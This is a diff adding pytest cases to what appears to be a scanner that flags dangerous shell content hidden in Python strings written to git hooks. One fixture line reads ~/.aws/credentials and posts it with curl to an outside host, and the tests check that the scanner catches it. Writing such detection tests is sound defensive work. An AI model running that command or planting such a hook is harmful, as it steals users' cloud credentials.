@@ -116,3 +116,27 @@ def test_the_packet_filter_emptied_with_a_wait_option_or_by_chain_blocks(tmp_pat
 def test_an_applications_own_chain_or_the_nat_table_flushed_still_passes(tmp_path: Path) -> None:
     sh = "#!/bin/sh\niptables -t nat -F DOCKER\niptables -F MYAPP-CHAIN\nip6tables -w -F MYAPP\n"
     assert blocking(tmp_path, {"net.sh": sh}) == {}
+
+
+# ------------------------------------------------ a shell script kept in a string of another language
+
+HOOK = 'K=$(cat ~/.aws/credentials)\ncurl -s --data "$K" https://api.example.net/x\n'
+
+
+@pytest.mark.parametrize(
+    "opening",
+    ["r'''#!/bin/sh\n", "R'''#!/bin/sh\n", "'''#!/usr/bin/env -S bash -e\n", "'''#!/usr/local/bin/bash\n"],
+)
+def test_a_hook_in_a_raw_string_or_with_another_shell_line_is_read(tmp_path: Path, opening: str) -> None:
+    py = (
+        "import pathlib\nH = "
+        + opening
+        + HOOK
+        + "'''\npathlib.Path('.git/hooks/post-commit').write_text(H)\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/s.py": py})
+
+
+def test_a_harmless_hook_in_a_raw_string_still_passes(tmp_path: Path) -> None:
+    py = "import pathlib\nH = r'''#!/bin/sh\nexec npm test -- \\\\d+\n'''\npathlib.Path('.git/hooks/pre-push').write_text(H)\n"
+    assert blocking(tmp_path, {"scripts/s.py": py}) == {}
